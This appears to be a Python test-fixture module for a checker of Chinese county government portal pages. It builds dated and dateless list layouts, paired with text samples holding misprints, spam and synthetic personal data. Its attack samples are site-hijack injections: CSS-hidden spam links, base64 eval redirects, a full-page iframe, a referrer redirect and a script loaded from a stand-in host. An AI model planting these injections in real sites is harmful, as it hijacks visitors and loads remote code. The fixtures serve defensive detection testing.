"""A third set, written by somebody who had not read how the program judges; what it said of them first is kept.

Habits that the first two sets leave out: other publishing systems, other places for the day, other tricks.
"""

import base64
from collections.abc import Iterator
from datetime import date

from tests.pages.imitations.attacks import BAD, Attack, home
from tests.pages.imitations.shape import NEW, OLD, Column
from tests.pages.imitations.skins import portal, rows, township

_IDEOGRAPHIC = str.maketrans("0123456789", "〇一二三四五六七八九")


def _each(form: str, newest: date = NEW, count: int = 10, gap: int = 5) -> str:
    return "".join(form.format(t=text, d=day, n=number) for text, day, number in rows(newest, count, gap))


def _dated_columns() -> Iterator[Column]:
    yield Column(
        "definition list",
        portal("<dl>" + _each("<dt><a href='/{n}.shtml'>{t}</a></dt><dd>{d:%Y-%m-%d} 来源：县政府办</dd>") + "</dl>"),
        NEW,
    )
    yield Column(
        "time element whose text is relative",
        portal(
            "<ul>" + _each("<li><a href='/{n}'>{t}</a><time datetime='{d:%Y-%m-%d}'>{d:%m-%d}</time></li>") + "</ul>"
        ),
        NEW,
    )
    yield Column(
        "day in the file name alone",
        portal("<ul>" + _each("<li><a href='/art/{d:%Y}/{d:%m}/{d:%d}/art_77_{n}.html'>{t}</a></li>") + "</ul>"),
        NEW,
    )
    yield Column(
        "index number, title, unit and day of a catalogue of open information",
        portal(
            "<table><tr><th>索引号</th><th>名称</th><th>成文日期</th><th>发布日期</th></tr>"
            + _each("<tr><td>011-{n}</td><td><a href='/{n}'>{t}</a></td><td>2025-01-06</td><td>{d:%Y-%m-%d}</td></tr>")
            + "</table>",
            "法定主动公开内容",
        ),
        NEW,
    )
    yield Column(
        "pictures with captions",
        portal(
            "<div>" + _each("<figure><img src='/{n}.jpg'><figcaption>{t} {d:%Y-%m-%d}</figcaption></figure>") + "</div>"
        ),
        NEW,
    )
    yield Column(
        "days of Chinese figures",
        portal(
            "<ul>"
            + "".join(
                f"<li><a href='/{n}.html'>{t}</a><span>"
                f"{str(d.year).translate(_IDEOGRAPHIC)}年{'十' if d.month == 10 else '十一'}月一日</span></li>"
                for t, d, n in rows(date(2026, 11, 1), 1)
            )
            + "</ul>"
        ),
        date(2026, 11, 1),
    )
    yield Column(
        "pinned notice of an old year above fresh ones",
        portal(
            "<ul><li class='top'><b>[置顶]</b><a href='/9.html'>县政府信息公开指南</a><span>2021-03-04</span></li>"
            + _each("<li><a href='/{n}.html'>{t}</a><span>{d:%Y-%m-%d}</span></li>")
            + "</ul>"
        ),
        NEW,
    )
    yield Column(
        "visitors' counter and hits beside the day",
        township("<ul>" + _each("<li><a href='{n}.htm'>{t}</a>　[{d:%Y-%m-%d}]　浏览2026次</li>", OLD) + "</ul>"),
        OLD,
    )
    yield Column(
        "two columns of the page, the own one old and the hot list new",
        portal(
            "<div class='main-list'><ul>"
            + _each("<li><a href='/g/{n}.html'>{t}</a><span>{d:%Y-%m-%d}</span></li>", OLD, 15)
            + "</ul></div><div class='sidebar hot'><h3>热门点击</h3><ul>"
            + _each("<li><a href='/h/{n}.html'>{t}</a><span>{d:%m-%d}</span></li>", NEW, 5)
            + "</ul></div>"
        ),
        OLD,
    )
    yield Column(
        "letters of citizens with day of letter and of answer",
        portal(
            "<table><tr><th>来信标题</th><th>来信时间</th><th>回复时间</th></tr>"
            + _each("<tr><td><a href='/{n}'>{t}</a></td><td>{d:%Y-%m-%d}</td><td>{d:%Y-%m-%d}</td></tr>")
            + "</table>",
            "县长信箱",
        ),
        NEW,
    )
    yield Column(
        "list in an xml island",
        portal(
            "<script type='text/xml'><datastore><recordset>"
            + _each("<record><![CDATA[<li><a href='/art/{n}.html'>{t}</a><span>{d:%Y-%m-%d}</span></li>]]></record>")
            + "</recordset></datastore></script>"
        ),
        NEW,
    )
    yield Column(
        "year as a heading above months and days",
        portal(
            "<h3>2026年</h3><ul>"
            + _each("<li><span>{d:%m-%d}</span><a href='/{n}.html'>{t}</a></li>", NEW, 5)
            + "</ul><h3>2025年</h3><ul>"
            + _each("<li><span>{d:%m-%d}</span><a href='/{n}.html'>{t}</a></li>", OLD, 5)
            + "</ul>"
        ),
        NEW,
    )


def _dateless_columns() -> Iterator[Column]:
    yield Column(
        "leaders with their duties", portal("<div><h4>县长 何一</h4><p>主持县政府全面工作</p></div>", "领导之窗"), None
    )
    yield Column("service hall with icons", portal("<a href='/b/1'><img src='/1.png'>企业开办</a>", "办事大厅"), None)
    yield Column(
        "form for letters",
        portal("<form action='/post'><input name='title'><textarea></textarea></form>", "我要写信"),
        None,
    )
    yield Column("player of one film", portal("<video src='/v/1.mp4'></video><p>云山县宣传片</p>", "视频"), None)
    yield Column(
        "empty table with pages", portal("<table></table><div class='page'>共0页 首页 上一页 下一页 尾页</div>"), None,
        blank=True,
    )  # fmt: skip
    yield Column("being built", portal("<p>栏目建设中，敬请期待</p>"), None, blank=True)
    yield Column("nothing but a heading", portal("<h2>通知公告</h2>"), None, blank=True)
    yield Column("no records", portal("<div class='no-data'>抱歉，没有找到相关记录！</div>"), None, blank=True)


def _attacks() -> Iterator[Attack]:
    links = f"<a href='{BAD}/1'>甲公司</a><a href='{BAD}/2'>乙公司</a>"
    own = "<a href='/a/'>机构设置</a><a href='/b/'>领导分工</a>"
    code = base64.b64encode(f"location.href='{BAD}'".encode()).decode()
    yield Attack(
        "clipped away",
        home(f"<div style='position:absolute;clip:rect(0,0,0,0)'>{links}</div>"),
        home(f"<div style='position:absolute;clip:auto'>{own}</div>"),
    )
    yield Attack(
        "scaled to nothing",
        home(f"<div style='transform:scale(0)'>{links}</div>"),
        home(f"<div style='transform:scale(1.1)'>{own}</div>"),
    )
    yield Attack(
        "transparent letters",
        home(f"<p style='color:transparent'>{links}</p>"),
        home(f"<p style='color:#c00'>{own}</p>"),
    )
    yield Attack(
        "unscripted browsers alone",
        home(f"<noscript>{links}</noscript>"),
        home("<noscript>请开启脚本后浏览</noscript>"),
        plain=False,
    )
    yield Attack(
        "overflow of a dot",
        home(f"<div style='width:1px;height:1px;overflow:hidden'>{links}</div>"),
        home(f"<div style='width:300px;height:80px;overflow:hidden'>{own}</div>"),
    )
    yield Attack(
        "behind the page",
        home(f"<div style='position:fixed;z-index:-9999;opacity:.01'>{links}</div>"),
        home(f"<div style='position:fixed;z-index:9;opacity:.9'>{own}</div>"),
    )
    yield Attack(
        "letters of no size",
        home(f"<div style='font-size:0;line-height:0'>{links}</div>"),
        home(f"<div style='font-size:14px;line-height:0'>{own}</div>"),
    )
    yield Attack(
        "a frame over the whole page",
        home(f"<iframe src='{BAD}/' style='position:fixed;inset:0;width:100%;height:100%'></iframe>"),
        home("<iframe src='/weather.html' width='200' height='80'></iframe>"),
    )
    yield Attack(
        "code in base64",
        home(f"<script>eval(atob('{code}'))</script>"),
        home("<script>var logo='data:image/png;base64,iVBORw0KGgo='</script>"),
    )
    yield Attack(
        "code made of a function",
        home(f"<script>new Function(atob('{code}'))()</script>"),
        home("<script>var f=function(){return 1}</script>"),
    )
    yield Attack(
        "who comes from a search is led away",
        home(f"<script>if(/baidu|sogou/.test(document.referrer))location='{BAD}'</script>"),
        home("<script>if(/baidu|sogou/.test(document.referrer))show('欢迎')</script>"),
    )
    yield Attack(
        "script whose address is put together",
        home("<script>var s=document.createElement('script');s.src='//jt7788'+'.example'+'.vip/x.js';"
             "document.body.appendChild(s)</script>"),
        home("<script>var s=document.createElement('script');s.src='/js/count.js';"
             "document.body.appendChild(s)</script>"),
        plain=False,
    )  # fmt: skip
    yield Attack(
        "address of character codes",
        home("<script>document.location=String.fromCharCode(104,116,116,112,58,47,47,106,116,55,55,56,56,46,101,120)"
             "</script>"),
        home("<script>var c=String.fromCharCode(65)</script>"),
    )  # fmt: skip
    yield Attack(
        "base of another host",
        home("", head=f"<base href='{BAD}/'>"),
        home("", head="<base target='_blank'>"),
    )
    yield Attack(
        "title and description of a casino",
        home("", title="澳门永利娱乐城官网", head="<meta name='description' content='真人百家乐注册送彩金'>"),
        home("", title="首页", head="<meta name='description' content='云山县人民政府门户网站'>"),
    )
    yield Attack(
        "picture that runs code",
        home(f"<img src=x onerror=\"location.href='{BAD}'\">"),
        home("<img src='/a.png' onerror=\"this.src='/none.png'\">"),
    )


UNSEEN_COLUMNS = (*_dated_columns(), *_dateless_columns())
UNSEEN_ATTACKS = tuple(_attacks())
UNSEEN_SOUND = (
    "县公安局破获一起跨境网络赌博案，抓获嫌疑人三名。",
    "“扫黄打非”行动中收缴非法出版物三百册。",
    "福利彩票公益金支持残疾人康复项目。",
    "邀请广大干部群众参加知识竞赛，答题有奖。",
    "请勿点击陌生链接，谨防“刷单返利”诈骗。",
    "云山县图书馆报告厅电话：023-55501234。",
    "投诉受理：县市场监管局，手机 13811112222。",
    "河长公示牌：河长李建国，电话13900001111。",
    "我县与台湾地区农业专家座谈交流。",
    "赴香港特别行政区参加招商推介会。",
    "来源：云山县融媒体中心",
    "据新华社报道，全国秋粮丰收。来源：新华社",
    "合格证编号 500101199001010000 已作废。",
    "对公账户：中国农业银行云山支行 31-050101040012345。",
    "普及性健康知识，预防艾滋病传播。",
    "反洗钱宣传：不出租、不出售银行卡。",
    "经营范围：烟草制品零售；娱乐场所经营。",
    "枪支弹药安全检查专项行动启动。",
    "“黑中介”专项整治：严查假学历、假证件。",
    "棋牌室、网吧消防检查情况通报。",
)
UNSEEN_FAULTY = (
    ("在党中央坚强领到下，全县经济稳中有进。", {"misprint"}),
    ("贯彻落实党的二十大精神，坚持以人民为中新的发展思想。", {"misprint"}),
    ("会议要求加强森林防火工做，确保万无一失。", {"misprint"}),
    ("时时彩投注平台，六合彩开奖结果直播。", {"hijack"}),
    ("办理毕业证，快速拿证，先看后付款。", {"hijack"}),
    ("欧美成人在线，免费黄色电影下载。", {"hijack"}),
    ("真钱棋牌游戏，注册即送88元。", {"hijack"}),
    ("危房改造补助对象花名册：周五，13511112222。", {"mobile"}),
    ("公租房配租结果公示：吴六，身份证号 11010519491231002X。", {"idcard"}),
    ("残疾人补贴发放明细：郑七，农行卡 6228480402564890018。", {"bankcard"}),
    ("（摘编）今年以来，各地持续推进改革。", {"repost"}),
    ("本报记者 王某 摄影报道\n来源：\n昨日，县城举行灯会。", {"repost"}),
)
